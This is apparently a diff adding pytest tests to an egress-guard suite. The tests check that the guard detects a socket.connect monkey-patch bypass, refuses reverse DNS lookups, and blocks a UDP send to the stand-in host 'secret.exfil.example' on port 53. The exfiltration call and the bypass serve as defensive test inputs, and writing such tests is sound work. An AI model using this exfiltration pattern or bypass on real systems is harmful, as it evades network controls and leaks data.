@@ -6,6 +6,7 @@ before any system call, and always-denied addresses are checked at the matcher l
 
 from __future__ import annotations
 
+import _socket
 import asyncio
 import concurrent.futures
 import socket
@@ -279,3 +280,35 @@ def test_failing_recorder_neither_breaks_nor_unblocks(
         socket.create_connection(("127.0.0.1", closed_port), timeout=1)
     assert len(g.events) == 1
     assert "on_event callback failed" in caplog.text
+
+
+def test_self_test_fails_when_the_name_checks_were_replaced(
+    guard: EgressGuard, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Code that swaps socket.socket.connect (a monkey-patching library) would let
+    # connect((name, port)) resolve unchecked: the start-up self-test must say so.
+    monkeypatch.setattr(socket.socket, "connect", _socket.socket.connect)
+    with pytest.raises(GuardSelfTestFailed, match="name checks"):
+        guard.self_test()
+    monkeypatch.undo()
+    guard.self_test()
+
+
+def test_reverse_lookup_is_refused_before_any_query(
+    guard: EgressGuard, events: list[EgressEvent]
+) -> None:
+    with pytest.raises(EgressBlocked):
+        socket.gethostbyaddr("127.0.0.1")
+    with pytest.raises(EgressBlocked):
+        socket.getnameinfo(("127.0.0.1", 80), socket.NI_NUMERICHOST)
+    assert [(e.event, e.host, e.decision) for e in events] == [
+        ("socket.gethostbyaddr", "127.0.0.1", "deny"), ("socket.getnameinfo", "127.0.0.1", "deny")]
+
+
+def test_connect_by_unnamed_hostname_is_refused_before_resolution(
+    guard: EgressGuard, events: list[EgressEvent]
+) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(EgressBlocked):
+        s.sendto(b"x", ("secret.exfil.example", 53))
+    assert [(e.event, e.host, e.port) for e in events] == [
+        ("socket.sendto", "secret.exfil.example", 53)]
